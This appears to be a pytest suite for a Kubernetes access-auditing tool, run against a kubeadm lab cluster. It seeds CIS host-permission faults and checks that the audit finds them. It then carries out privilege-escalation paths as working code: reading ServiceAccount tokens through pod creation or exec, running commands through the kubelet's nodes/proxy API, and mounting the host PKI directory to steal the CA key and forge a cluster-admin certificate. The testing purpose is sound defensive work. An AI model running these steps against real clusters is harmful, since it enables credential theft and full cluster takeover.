"""On a real cluster by kubeadm: what hosts hide is found, and ways are walked through kubelets."""

import json
import subprocess
import sys
import tempfile
import time
from base64 import b64decode
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from shipkeeper.sandbox.lab import Lab
from shipkeeper.sandbox.lab.images import BUSYBOX
from tests.access.forgery import forged
from tests.access.servers import with_credentials
from tests.access.ways import Rule, bound, granted, rule
from tests.cli.run import SHIPKEEPER

_KUBECTL = str(Path(sys.executable).parent / "kubectl")
_NAMESPACE = "lab-ways"
_PKI = "/etc/kubernetes/pki"
_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
_CONFIG, _FLAGS = "/var/lib/kubelet/config.yaml", "/var/lib/kubelet/kubeadm-flags.env"
_RESTART = "systemctl restart kubelet"
# kubeadm leaves these readable for all; a clean host does not.
_HARDEN = """
chmod 700 /var/lib/etcd
chmod 600 /var/lib/kubelet/config.yaml
find /etc/cni/net.d -type f -exec chmod 600 {} +
find /etc /usr/lib -path '*/kubelet.service.d/*.conf' -exec chmod 600 {} +
"""
_LOOSEN = _HARDEN.replace("600", "644").replace("700", "755")


def audited(lab: Lab, *words: str) -> dict[str, Any]:
    """What `shipkeeper access audit` prints as JSON, from the lab's network."""
    command = lab.inside(
        *(SHIPKEEPER, "access", "audit", "-o", "json", "--fail-on", "never"),
        *("--kubeconfig", str(lab.kubeconfig), *words),
    )
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "PRIVATE KEY" not in done.stdout
    return json.loads(done.stdout)


def over_ssh(lab: Lab, user: str = "root", *more: str) -> dict[str, Any]:
    return audited(
        lab,
        *("--ssh", "--ssh-user", user, "--ssh-key", str(lab.ssh_key)),
        *("--ssh-known-hosts", str(lab.known_hosts), *more),
    )


def rules(found: dict[str, Any], sort: str) -> set[str]:
    return {each["rule"] for each in found[sort]}


def evidence(found: dict[str, Any]) -> dict[str, list[str]]:
    """What was seen, by control; hosts by their names."""
    return {each["rule"]: each.get("evidence", []) for each in found["findings"]}


@pytest.fixture
def clean(lab: Lab) -> Iterator[Lab]:
    """Hosts whose files are as they should be."""
    for host in lab.hosts:
        host.run("sh", "-c", _HARDEN)
    yield lab
    for host in lab.hosts:
        host.run("sh", "-c", _LOOSEN)


# Host, what is done, how it is undone, and what is told of it: `HOST` is the host.
SEEDS: tuple[tuple[str, str, str, str, str], ...] = (
    (
        "cp1",
        "chmod 644 /etc/kubernetes/admin.conf",
        "chmod 600 /etc/kubernetes/admin.conf",
        "cis-1.1.13",
        "HOST:/etc/kubernetes/admin.conf has 644",
    ),
    (
        "cp1",
        "chown nobody /etc/kubernetes/manifests/etcd.yaml",
        "chown root /etc/kubernetes/manifests/etcd.yaml",
        "cis-1.1.8",
        "HOST:/etc/kubernetes/manifests/etcd.yaml is nobody:root's",
    ),
    (
        "cp1",
        "chmod 640 /etc/kubernetes/pki/etcd/ca.key",
        "chmod 600 /etc/kubernetes/pki/etcd/ca.key",
        "cis-1.1.21",
        "HOST:/etc/kubernetes/pki/etcd/ca.key has 640",
    ),
    (
        "cp1",
        "chgrp nogroup /etc/kubernetes/pki/apiserver.crt",
        "chgrp root /etc/kubernetes/pki/apiserver.crt",
        "cis-1.1.19",
        "HOST:/etc/kubernetes/pki/apiserver.crt is root:nogroup's",
    ),
    ("cp1", "chmod 755 /var/lib/etcd", "chmod 700 /var/lib/etcd", "cis-1.1.11", "/var/lib/etcd"),
    (
        "w1",
        "chmod 604 /etc/kubernetes/kubelet.conf",
        "chmod 600 /etc/kubernetes/kubelet.conf",
        "cis-4.1.5",
        "HOST:/etc/kubernetes/kubelet.conf has 604",
    ),
    (
        "w2",
        f"cp -p {_CONFIG} /root/kept; sed -i '0,/enabled: false/s//enabled: true/' {_CONFIG}",
        f"mv /root/kept {_CONFIG}",
        "cis-4.2.1",
        "HOST: anonymous requests are taken",
    ),
    (
        "w3",
        f"cp -p {_FLAGS} /root/kept; sed -i 's/=\"/&--read-only-port=10255 /' {_FLAGS}; {_RESTART}",
        f"mv /root/kept {_FLAGS}; {_RESTART}",
        "cis-4.2.4",
        "HOST: the read-only port is 10255",
    ),
)
# What kubeadm of this age leaves open on purpose, or by its defaults.
USUAL = {"cis-4.2.9", "cis-4.2.13", "cis-4.2.14"}


def test_seeded_faults_are_found_and_clean_hosts_pass(clean: Lab) -> None:
    before = over_ssh(clean)
    on_hosts = ("cis-1.1.", "cis-4.1.", "cis-4.2.")
    faulty = {each for each in rules(before, "findings") if each.startswith(on_hosts)}
    assert faulty == USUAL
    seeded = {rule_ for *_, rule_, _ in SEEDS}
    assert seeded <= rules(before, "passed")
    try:
        for host, change, *_ in SEEDS:
            clean.run(host, "sh", "-c", change)
        found = evidence(over_ssh(clean))
        for host, _, _, rule_, told in SEEDS:
            assert rule_ in found, rule_
            wanted = told.replace("HOST", host)
            assert any(wanted in each for each in found[rule_]), (wanted, found[rule_])
    finally:
        for host, _, undo, *_ in SEEDS:
            clean.run(host, "sh", "-c", undo)
    after = over_ssh(clean)
    assert rules(after, "passed") == rules(before, "passed")


def test_who_may_not_read_the_files_passes_nothing_more(clean: Lab) -> None:
    as_root = over_ssh(clean)
    as_user = over_ssh(clean, Lab.user)
    assert rules(as_user, "passed") < rules(as_root, "passed")
    # What only root may read is not evaluated, and least of all taken to be open.
    assert {"cis-1.1.1", "cis-4.1.9", "cis-4.2.1"} <= rules(as_user, "unchecked")
    assert {"cis-1.1.1", "cis-4.1.9", "cis-4.2.1"} <= rules(as_root, "passed")
    with_sudo = over_ssh(clean, Lab.user, "--sudo")
    assert rules(with_sudo, "passed") == rules(as_root, "passed")


def test_a_host_that_is_away_passes_nothing(clean: Lab) -> None:
    strangers = audited(
        clean,
        *("--host", "root@cp1", "--host", "root@cp1:1", "--ssh-key", str(clean.ssh_key)),
        *("--ssh-known-hosts", str(clean.known_hosts)),
    )
    assert not {each for each in rules(strangers, "passed") if each.startswith("cis-1.1.")}
    why = {each["why"] for each in strangers["unchecked"] if each["rule"] == "cis-1.1.1"}
    assert "was not looked at" in why.pop()


def kubectl(
    lab: Lab,
    *words: str,
    feed: Sequence[Rule] = (),
    check: bool = True,
    kubeconfig: Path | None = None,
) -> subprocess.CompletedProcess[str]:
    text = yaml.safe_dump_all(feed)
    done = subprocess.run(
        lab.inside(_KUBECTL, "--kubeconfig", str(kubeconfig or lab.kubeconfig), *words),
        input=text,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )
    assert done.returncode == 0 or not check, done.stderr
    return done


def pod(name: str, account: str, command: str, **spec: Any) -> Rule:
    container: Rule = {"name": "main", "image": BUSYBOX, "imagePullPolicy": "Never"}
    container |= {"command": ["sh", "-c", command], **spec.pop("container", {})}
    metadata = {"name": name, "namespace": _NAMESPACE}
    base = {"serviceAccountName": account, "restartPolicy": "Never", "containers": [container]}
    return {"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": {**base, **spec}}


@pytest.fixture(scope="module")
def town(lab: Lab) -> Iterator[Lab]:
    """A mighty ServiceAccount whose pod runs on a worker, and a Secret that is worth it."""
    mighty = {"kind": "ServiceAccount", "namespace": _NAMESPACE, "name": "mighty"}
    secret = {"apiVersion": "v1", "kind": "Secret", "stringData": {"key": "prize"}}
    objects: list[Rule] = [
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": _NAMESPACE}},
        {**secret, "metadata": {"name": "prize", "namespace": "kube-system"}},
        {
            "apiVersion": "v1",
            "kind": "ServiceAccount",
            "metadata": {"name": "mighty", "namespace": _NAMESPACE},
        },
        granted("lab-mighty", "cluster-admin", mighty),
        pod("target", "mighty", "sleep 100000", nodeName="w1"),
    ]
    kubectl(lab, "apply", "-f", "-", feed=objects)
    kubectl(lab, "wait", "-n", _NAMESPACE, "--for=condition=Ready", "pod/target", "--timeout=90s")
    yield lab
    kubectl(lab, "delete", "--wait=false", "-f", "-", feed=objects)


class Thief:
    """A user of certain rules, bound in the namespace or everywhere."""

    def __init__(self, lab: Lab, name: str, namespace: str, *rules_: Rule) -> None:
        self.lab = lab
        self.user = f"way-{name}"
        self.objects = bound(name, namespace, rules_)
        kubectl(lab, "apply", "-f", "-", feed=self.objects)
        told = [each for each in audited(lab)["findings"] if each["target"] == f"user/{self.user}"]
        self.ways = {each["rule"] for each in told}
        self.goals = {each["goal"] for each in told}

    def kubectl(self, *words: str, **more: Any) -> str:
        return kubectl(self.lab, "--as", self.user, "-n", _NAMESPACE, *words, **more).stdout

    def takes_prize(self, **credentials: str) -> None:
        """By other credentials than its own."""
        with tempfile.TemporaryDirectory() as place:
            path = with_credentials(self.lab.kubeconfig, Path(place, "stolen"), credentials)
            found = kubectl(
                self.lab, "get", "secret", "prize", "-n", "kube-system", kubeconfig=path
            )
        assert "prize" in found.stdout

    def logged(self, name: str) -> str:
        """What a pod of its own printed, once it has."""
        began = time.monotonic()
        while time.monotonic() - began < 90:
            said = kubectl(self.lab, "logs", "-n", _NAMESPACE, name, check=False).stdout
            if said:
                return said
            time.sleep(0.5)
        raise AssertionError(f"pod {name} printed nothing")


def test_a_pod_of_ones_own_has_a_token_of_any_account(town: Lab) -> None:
    thief = Thief(town, "lab-pods", _NAMESPACE, rule("create", "pods"))
    assert thief.ways == {"path-02"}
    thief.kubectl("create", "-f", "-", feed=[pod("mine", "mighty", f"cat {_TOKEN}", nodeName="w2")])
    thief.takes_prize(token=thief.logged("mine"))


def test_exec_takes_the_token_of_others(town: Lab) -> None:
    thief = Thief(town, "lab-exec", _NAMESPACE, rule("create", "pods/exec"), rule("get", "pods"))
    assert thief.ways == {"path-04"}
    thief.takes_prize(token=thief.kubectl("exec", "target", "--", "cat", _TOKEN))


_OVER_WEBSOCKET = """
import asyncio, ssl, sys
import aiohttp

async def main():
    url, certificate, key = sys.argv[1:]
    tls = ssl.create_default_context()
    tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
    tls.load_cert_chain(certificate, key)
    async with aiohttp.ClientSession() as session:
        async with session.ws_connect(url, ssl=tls, protocols=("v4.channel.k8s.io",)) as socket:
            async for message in socket:
                # The first byte is the channel: 1 is what the command prints.
                if message.data[:1] == b"\\x01":
                    sys.stdout.write(message.data[1:].decode())

asyncio.run(main())
"""


def test_get_nodes_proxy_runs_commands(town: Lab, tmp_path: Path) -> None:
    """Straight from the kubelet, which asks whether its user may `get nodes/proxy`."""
    thief = Thief(town, "lab-proxy", "", rule("get", "nodes/proxy"))
    assert thief.ways == {"path-05"}
    certificate, key = _issued(town, thief.user, tmp_path)
    query = f"command=cat&command={_TOKEN}&output=1"
    url = f"https://{town.host('w1').address}:10250/exec/{_NAMESPACE}/target/main?{query}"
    words = town.inside(sys.executable, "-c", _OVER_WEBSOCKET, url, certificate, key)
    done = subprocess.run(words, capture_output=True, text=True, check=False, timeout=60)
    assert done.stdout, done.stderr
    thief.takes_prize(token=done.stdout)
    # Somebody else is turned away.
    words = town.inside(sys.executable, "-c", _OVER_WEBSOCKET, url, *_issued(town, "x", tmp_path))
    other = subprocess.run(words, capture_output=True, text=True, check=False, timeout=60)
    assert (other.stdout, "403" in other.stderr) == ("", True)


def _issued(lab: Lab, user: str, place: Path) -> tuple[str, str]:
    """The files of a user's client certificate and key, as an administrator would issue them."""
    certificate, key = (
        lab.run("cp1", "cat", f"{_PKI}/ca.{each}").stdout.encode() for each in ("crt", "key")
    )
    made = forged(certificate, key, user, "lab-users")
    paths: list[str] = []
    for name in ("client-certificate-data", "client-key-data"):
        path = place / f"{user}-{name}"
        path.write_bytes(b64decode(made[name]))
        paths.append(str(path))
    return paths[0], paths[1]


def test_a_volume_of_a_host_s_disk_has_the_cluster_s_keys(town: Lab) -> None:
    kinds = rule("create", "persistentvolumes persistentvolumeclaims pods")
    thief = Thief(town, "lab-volume", "", kinds)
    assert thief.goals == {"cluster-admin"}
    size = {"storage": "1Mi"}
    base: Rule = {"accessModes": ["ReadWriteOnce"], "storageClassName": ""}
    disk: Rule = {
        "apiVersion": "v1",
        "kind": "PersistentVolume",
        "metadata": {"name": "lab-keys"},
        "spec": {**base, "capacity": size, "hostPath": {"path": _PKI}},
    }
    claim: Rule = {
        "apiVersion": "v1",
        "kind": "PersistentVolumeClaim",
        "metadata": {"name": "keys", "namespace": _NAMESPACE},
        "spec": {**base, "resources": {"requests": size}, "volumeName": "lab-keys"},
    }
    mount = {"volumeMounts": [{"name": "keys", "mountPath": "/keys"}]}
    mine = pod(
        "keys",
        "default",
        "cat /keys/ca.crt /keys/ca.key",
        nodeName="cp1",
        container=mount,
        volumes=[{"name": "keys", "persistentVolumeClaim": {"claimName": "keys"}}],
    )
    try:
        thief.kubectl("create", "-f", "-", feed=[disk, claim, mine])
        certificate, _, key = thief.logged("keys").partition("-----BEGIN RSA")
        stolen = forged(
            certificate.encode(), f"-----BEGIN RSA{key}".encode(), "thief", "system:masters"
        )
        thief.takes_prize(**stolen)
    finally:
        kubectl(town, "delete", "--wait=false", "-f", "-", feed=[mine, claim, disk])
